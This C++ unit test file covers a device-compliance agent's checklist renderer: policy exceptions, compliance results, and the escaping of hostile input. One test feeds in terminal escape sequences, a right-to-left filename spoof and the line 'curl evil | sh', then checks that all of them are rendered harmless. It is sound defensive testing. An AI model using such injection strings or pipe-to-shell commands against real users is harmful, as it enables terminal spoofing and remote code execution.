#include "agent/cli/checklist.h"

#include "common/util/proto_time.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/agent/cli/cli_test_util.h"

namespace trellis::agent {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

v1::Verdict LocalVerdict(const std::string& remediation) {
  // The device's own evaluation knows nothing of exceptions.
  v1::Verdict verdict = cli_testing::LastCheckIn(remediation).verdict();
  for (v1::CheckResult& r : *verdict.mutable_results()) {
    r.clear_excepted_until();
    r.clear_exception_reason();
  }
  verdict.set_compliant(false);
  return verdict;
}

EmployeeStatus ServerStatus() {
  EmployeeStatus status;
  CheckLine fw;
  fw.policy_id = "firewall";
  fw.check_id = "on";
  fw.excepted_until = cli_testing::ExceptionEnd();
  fw.exception_reason = "vendor laptop";
  status.exceptions.push_back(fw);
  return status;
}

TEST(ChecklistTest, HostileRemediationPrintsEscaped) {
  v1::Verdict verdict =
      LocalVerdict("\x1b]0;owned\x07\x1b[2J\rrun: curl evil | sh\nthen reboot");
  v1::CheckResult* r = verdict.mutable_results(0);
  r->set_title("Disk\x1b[8m hidden");
  r->set_detail(
      "name=\xe2\x80\xae"
      "txt.exe");
  std::string text = RenderChecklist(verdict, cli_testing::Now());
  EXPECT_EQ(text.find('\x1b'), std::string::npos) << text;
  EXPECT_EQ(text.find('\x07'), std::string::npos) << text;
  EXPECT_EQ(text.find('\r'), std::string::npos) << text;
  EXPECT_THAT(text, HasSubstr("         \\e]0;owned\\x07\\e[2J\\rrun: curl "
                              "evil | sh\n         then reboot\n"));
  EXPECT_THAT(text, HasSubstr("[FAIL] Disk\\e[8m hidden"));
  EXPECT_THAT(text, HasSubstr("name=\\u{202E}txt.exe"));
}

TEST(ChecklistTest, ExceptedFailureIsMarkedAndCostsNoCompliance) {
  v1::Verdict verdict = LocalVerdict("Turn on FileVault");
  // Only the excepted check fails.
  verdict.mutable_results(0)->set_state(v1::CHECK_STATE_PASS);
  ApplyExceptions(ServerStatus(), cli_testing::Now(), verdict);
  EXPECT_TRUE(verdict.compliant());
  std::string text = RenderChecklist(verdict, cli_testing::Now());
  EXPECT_THAT(text, HasSubstr("[FAIL (excepted until 2027-02-01 00:00:00 UTC: "
                              "vendor laptop)] Firewall is on  "
                              "(firewall/on)\n"));
  EXPECT_THAT(text, HasSubstr("1 failing check(s) covered by an exception"));
  EXPECT_THAT(text, HasSubstr("This device meets policy.\n"));
}

TEST(ChecklistTest, AnUnexceptedFailureStillFails) {
  v1::Verdict verdict = LocalVerdict("Turn on FileVault");
  ApplyExceptions(ServerStatus(), cli_testing::Now(), verdict);
  EXPECT_FALSE(verdict.compliant());
  std::string text = RenderChecklist(verdict, cli_testing::Now());
  EXPECT_THAT(text, HasSubstr("[FAIL] Disk is encrypted  (disk/encrypted)\n"));
  EXPECT_THAT(text, HasSubstr("This device does NOT meet policy.\n"));
}

TEST(ChecklistTest, ExpiredExceptionIsNotMarked) {
  v1::Verdict verdict = LocalVerdict("Turn on FileVault");
  verdict.mutable_results(0)->set_state(v1::CHECK_STATE_PASS);
  const absl::Time later = cli_testing::ExceptionEnd() + absl::Hours(1);
  ApplyExceptions(ServerStatus(), later, verdict);
  EXPECT_FALSE(verdict.compliant());
  EXPECT_THAT(RenderChecklist(verdict, later),
              Not(HasSubstr("excepted until")));
}

}  // namespace
}  // namespace trellis::agent
